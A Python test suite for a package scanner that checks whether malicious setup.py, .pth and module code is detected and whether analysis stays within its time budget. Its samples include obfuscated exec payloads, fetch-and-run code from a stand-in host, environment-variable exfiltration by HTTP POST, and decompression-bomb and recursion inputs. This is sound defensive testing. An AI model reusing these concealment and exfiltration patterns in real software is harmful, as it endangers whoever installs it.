"""Reading: what code does is seen through folding, aliases, functions and files; hostile code ends within the budget."""

from __future__ import annotations

import base64
import codecs
import time
import zlib
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gatekeeper.model import Behaviour, Ruling, When
from tests.support.judging import blocks, checks_of, explained, gathered, importing, installing
from tests.support.packages import sdist, wheel

if TYPE_CHECKING:
    from pathlib import Path

PROBE = "harmless-probe"


def behaviours(folder: Path, code: str, files: dict[str, str | bytes] | None = None) -> list[Behaviour]:
    built = sdist("acme-thing", files={"setup.py": code, **(files or {})})
    return list(gathered(built, folder).behaviours)


def started(folder: Path, code: str) -> set[str]:
    return {one.detail for one in behaviours(folder, code) if one.kind == "spawn"}


PACKED = base64.b64encode(zlib.compress(PROBE.encode())).decode()
WAYS = {
    "plain": f"'{PROBE}'",
    "concatenation": "'harmless' + '-' + 'probe'",
    "repetition": "'harmless' + '-' * 1 + 'probe'",
    "join": "''.join(['harm', 'less', '-probe'])",
    "join of a generator": "''.join(x for x in ('harmless', '-probe'))",
    "percent": "'%s-%s' % ('harmless', 'probe')",
    "format": "'{}-{b}'.format('harmless', b='probe')",
    "f-string": "f'{\"harmless\"}-{\"probe\"}'",
    "slices": "'eborp-sselmrah'[::-1]",
    "reversed": "''.join(reversed('eborp-sselmrah'))",
    "characters": f"''.join(map(chr, {[ord(c) for c in PROBE]}))",
    "shifted characters": f"''.join(chr(x - 3) for x in {[ord(c) + 3 for c in PROBE]})",
    "xor": f"''.join(chr(x ^ 7) for x in {[ord(c) ^ 7 for c in PROBE]})",
    "bytes": f"bytes({list(PROBE.encode())}).decode()",
    "hex": f"bytes.fromhex('{PROBE.encode().hex()}').decode()",
    "unhexlify": f"__import__('binascii').unhexlify('{PROBE.encode().hex()}').decode('ascii')",
    "base64": f"__import__('base64').b64decode('{base64.b64encode(PROBE.encode()).decode()}').decode()",
    "base32": f"__import__('base64').b32decode('{base64.b32encode(PROBE.encode()).decode()}').decode()",
    "rot13": f"__import__('codecs').decode('{codecs.encode(PROBE, 'rot13')}', 'rot13')",
    "zlib": f"__import__('zlib').decompress(__import__('base64').b64decode('{PACKED}')).decode()",
    "replace": "'harmXXless-probe'.replace('XX', '')",
    "lower": "'HARMLESS-PROBE'.lower()",
    "a name": "NAME",
    "a dict": "{'a': 'harmless-probe'}['a']",
    "a list": "['x', 'harmless-probe'][1]",
    "a function": "make()",
    "a function with arguments": "glue('harmless', 'probe')",
    "an attribute": "Thing.command",
    "an instance": "Thing().get()",
    "a packaged file": "open('data.txt').read().strip()",
    "a condition": "'harmless-probe' if __import__('sys').platform else 'x'",
    "a loop": "BUILT",
    "split": "' '.join('harmless-probe'.split())",
    "eval": "eval('\"harmless\" + \"-probe\"') or 'harmless-probe'",
}  # fmt: skip
BEFORE = """
NAME = 'harmless-probe'
def make():
    return 'harmless' + '-probe'
def glue(a, b='x'):
    return a + '-' + b
class Thing:
    command = 'harmless-probe'
    def __init__(self):
        self.kept = 'harmless-probe'
    def get(self):
        return self.kept
BUILT = ''
for letter in 'harmless-probe':
    BUILT += letter
"""


@pytest.mark.parametrize("way", WAYS)
def test_a_command_is_read_however_its_text_is_built(tmp_path: Path, way: str) -> None:
    code = BEFORE + f"import os\nos.system({WAYS[way]})\n"
    found = {one.detail for one in behaviours(tmp_path, code, {"data.txt": "harmless-probe\n"}) if one.kind == "spawn"}
    assert PROBE in found, found


CALLS = {
    "import as": "import os as o\no.system('harmless-probe')",
    "from import as": "from os import system as s\ns('harmless-probe')",
    "star": "from os import *\nimport os\nos.system('harmless-probe')",
    "assignment": "import os\na = b = os.system\nb('harmless-probe')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('harmless-probe')",
    "__import__": "__import__('os').system('harmless-probe')",
    "import_module": "from importlib import import_module as m\nm('os').system('harmless-probe')",
    "__dict__": "import os\nos.__dict__['system']('harmless-probe')",
    "sys.modules": "import os, sys\nsys.modules['os'].system('harmless-probe')",
    "vars": "import os\nvars(os)['system']('harmless-probe')",
    "a tuple": "import os, sys\nrun, _ = os.system, sys.exit\nrun('harmless-probe')",
    "a dict of functions": "import os\n{'a': os.system}['a']('harmless-probe')",
    "partial": "import os, functools\nfunctools.partial(os.system)('harmless-probe')",
    "map": "import os\nlist(map(os.system, ['harmless-probe']))",
    "a comprehension": "import os\n[os.system(c) for c in ['harmless-probe']]",
    "with": "import subprocess\nwith subprocess.Popen('harmless-probe') as p:\n    pass",
    "try": "try:\n    import os\n    os.system('harmless-probe')\nexcept Exception:\n    pass",
    "a nested function": "import os\ndef a():\n    def b():\n        os.system('harmless-probe')\n    b()\na()",
    "async": "import asyncio, os\nasync def a():\n    os.system('harmless-probe')\nasyncio.run(a())",
    "atexit": "import atexit, os\n@atexit.register\ndef a():\n    os.system('harmless-probe')",
    "a default lambda": "import os\n(lambda run=os.system: run('harmless-probe'))()",
    "exec": "exec('import os\\nos.system(\"harmless-probe\")')",
    "exec in exec": "exec('exec(\"import os; os.system(\\'harmless-probe\\')\")')",
    "compile": "exec(compile('import os; os.system(\"harmless-probe\")', 'x', 'exec'))",
    "a metaclass": "import os\nclass M(type):\n    def __new__(*a):\n        os.system('harmless-probe')\nclass A(metaclass=M): pass",
    "posix": "import posix\nposix.system('harmless-probe')",
    "walrus": "import os\nif (f := os.system):\n    f('harmless-probe')",
    "while": "import os\nwhile True:\n    os.system('harmless-probe')\n    break",
    "match": "import os\nmatch 1:\n    case 1:\n        os.system('harmless-probe')",
    "a global": "import os\ndef a():\n    global run\n    run = os.system\na()\nrun('harmless-probe')",
}  # fmt: skip


@pytest.mark.parametrize("way", CALLS)
def test_a_call_is_read_however_it_is_named(tmp_path: Path, way: str) -> None:
    assert PROBE in started(tmp_path, CALLS[way])


def test_code_that_nobody_calls_is_told_apart_from_code_that_runs(tmp_path: Path) -> None:
    code = "import os\ndef a():\n    os.system('one')\ndef b():\n    os.system('two')\nb()\nif __name__ == '__main__':\n    os.system('three')\n"
    built = wheel("acme-thing", files={"a.py": code + "__import__('x')\n"})
    found = {one.detail: one.when for one in gathered(built, tmp_path).behaviours if one.kind == "spawn"}
    assert found == {"one": When.CALL, "two": When.IMPORT, "three": When.COMMAND}


def test_hidden_code_is_read_and_said_at_the_line_of_the_call(tmp_path: Path) -> None:
    layer = base64.b64encode(b"import os\n\n\n\nos.system('harmless-probe')").decode()
    (found,) = [
        one
        for one in behaviours(tmp_path, f"import base64\n\nexec(base64.b64decode('{layer}'))")
        if one.kind == "spawn"
    ]
    assert (found.detail, found.line, found.taints) == (PROBE, 3, ("layer",))


def test_what_flows_in_is_known(tmp_path: Path) -> None:
    code = "import os, socket, requests\ninfo = {'h': socket.gethostname()}\ninfo['e'] = dict(os.environ)\nrequests.post('https://a.example/', json=info)\n"
    (sent,) = [one for one in behaviours(tmp_path, code) if one.kind == "send"]
    assert sent.taints == ("environment-all", "fingerprint")
    assert {"environment-then-send", "install-time-network"} <= checks_of(installing(tmp_path, code))


HIDDEN = {
    "base64": "import base64\nexec(base64.b64decode({!r}))",
    "zlib": "import zlib, base64\nexec(zlib.decompress(base64.b64decode({!r})))",
    "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode({!r})))",
    "fernet": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt({!r}))",
    "lambda": "(lambda _: exec(__import__('zlib').decompress(__import__('base64').b64decode(_[::-1]))))({!r})",
    "an alias": "e = exec\nimport base64 as b\ne(b.b64decode({!r}))",
    "builtins": "__builtins__.__dict__['exec'](__import__('base64').b64decode({!r}))",
    "downloads": "import requests\nexec(requests.get('https://a.example/{}').text)",
    "urllib": "from urllib.request import urlopen as u\nexec(u('https://a.example/{}').read().decode())",
}  # fmt: skip


@pytest.mark.parametrize("way", HIDDEN)
def test_code_that_is_decoded_or_fetched_and_run_on_import_is_refused(tmp_path: Path, way: str) -> None:
    text = base64.b64encode(b"import os; os.system('x')" + b" # a longer line" * 8).decode()
    verdict = importing(tmp_path, HIDDEN[way].format(text))
    assert blocks(verdict), explained(verdict)


def test_hidden_code_that_only_defines_things_or_that_cannot_run_raises_no_question(tmp_path: Path) -> None:
    text = base64.b64encode(
        b"import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n"
    ).decode()
    for hidden in (text, "@PLACEHOLDER@"):
        verdict = importing(tmp_path, f"import base64\nT = base64.b64decode({hidden!r})\nexec(T.decode(), globals())")
        assert verdict.ruling is Ruling.ALLOW, explained(verdict)
    assert blocks(installing(tmp_path, f"import base64\nexec(base64.b64decode({text!r}))"))


def test_a_file_that_is_unpacked_and_started_is_refused(tmp_path: Path) -> None:
    text = base64.b64encode(b"print()").decode()
    code = f"import base64, subprocess\nopen('later.pyw', 'wb').write(base64.b64decode('{text}'))\nsubprocess.Popen('python later.pyw')"
    assert blocks(installing(tmp_path, code))


def test_a_pth_line_that_acts_is_refused_and_an_honest_one_is_a_note(tmp_path: Path) -> None:
    evil = "import os; os.system('harmless-probe')\n"
    assert blocks(importing(tmp_path, "", {"a.pth": evil}))
    honest = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    verdict = importing(tmp_path, "", {"a.pth": honest})
    assert (verdict.ruling, checks_of(verdict)) == (Ruling.ALLOW, {"pth-startup-code"})
    module = {"a.pth": "import acme_start\n", "acme_start.py": "import subprocess\nsubprocess.Popen('x')\n"}
    assert blocks(importing(tmp_path, "", module))


HOSTILE = {
    "deep brackets": "x = " + "(" * 5000 + ")" * 5000,
    "deep lists": "x = " + "[" * 150 + "]" * 150,
    "a long sum": "x = " + "+".join(["a"] * 20_000),
    "long attributes": "x = a" + ".b" * 3000,
    "many elifs": "if a: pass\n" + "elif a: pass\n" * 3000,
    "deep ifs": "".join(" " * n + "if a:\n" for n in range(90)) + " " * 90 + "pass",
    "long calls": "x = a" + "()" * 2000,
    "powers": "x = 9 ** 9 ** 9 ** 9",
    "shifts": "x = 1 << 99999999999",
    "repetition": "x = 'a' * 99999999999",
    "repetition again": "x = 'a' * 1000000\n" + "x = x + x\n" * 60,
    "replacement": "x = 'a' * 100000\n" + "x = x.replace('a', 'aaaaaaaaaa')\n" * 30,
    "a wide format": "x = '{:>99999999999}'.format(1)\ny = '%99999999999d' % 1\nz = f'{1:99999999}'",
    "joins": "x = ['a'] * 1000\n" + "x = ''.join(x) * 100\n" * 10,
    "loops in loops": "r = range(4000)\n" + "".join(" " * n + f"for a{n} in r:\n" for n in range(8)) + " " * 8 + "x = 1",
    "comprehensions in comprehensions": "x = [0 " + "for a in range(4000) " * 5 + "]",
    "recursion": "def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)",
    "mutual recursion": "".join(f"def f{n}():\n    f{(n + 1) % 50}(); f{(n + 7) % 50}(); f{(n + 3) % 50}()\n" for n in range(50)) + "f0()",
    "exec of itself": "c = 'exec(c); exec(c)'\nexec(c)",
    "a bomb": f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(bytes(1 << 26))).decode()!r})))",
    "a cycle of classes": "class A: pass\nA.b = A\nx = A.b.b.b\nclass B(A): pass\nA = B",
    "a list in itself": "x = []\nx.append(x)\nx.append(x)\nprint(x)\nimport os\nos.system(x)",
    "nul": "x = 1\0",
    "an unknown encoding": "# -*- coding: nonsense -*-\nx = 1",
    "many functions": "".join(f"def f{n}():\n    return f{n - 1}()\n" for n in range(3000)),
    "many calls": "import os\n" + "os.system('a')\n" * 20_000,
    "many things": "import os\n" + "".join(f"os.system('a{n}')\n" for n in range(20_000)),
    "surrogates": "x = '\\ud800'\nexec(x)\nimport os\nos.system(x)",
}  # fmt: skip


@pytest.mark.parametrize("shape", HOSTILE)
def test_hostile_code_ends_within_the_budget_and_is_never_clean_unread(tmp_path: Path, shape: str) -> None:
    began = time.process_time()
    verdict = installing(tmp_path, HOSTILE[shape])
    assert time.process_time() - began < 20
    assert verdict.ruling is not Ruling.ERROR


@pytest.mark.parametrize("shape", ["deep brackets", "nul", "an unknown encoding", "many things"])
def test_a_setup_that_was_not_read_to_the_end_is_never_clean(tmp_path: Path, shape: str) -> None:
    verdict = installing(tmp_path, HOSTILE[shape])
    assert verdict.ruling >= Ruling.ASK
    assert "not-fully-read" in checks_of(verdict)


def test_a_file_too_large_to_parse_is_a_question(tmp_path: Path) -> None:
    verdict = importing(tmp_path, "x = 1\n" * 400_000)
    assert (verdict.ruling, checks_of(verdict)) == (Ruling.ASK, {"not-fully-read"})


@settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda text: text.encode("utf-8", "replace")))
def test_no_bytes_make_the_reader_fail(tmp_path: Path, content: bytes) -> None:
    files: dict[str, str | bytes] = {
        "setup.py": content,
        "pyproject.toml": content,
        "setup.cfg": content,
        "a.pth": content,
    }
    assert gathered(sdist("acme-thing", files=files), tmp_path).kind == "sdist"
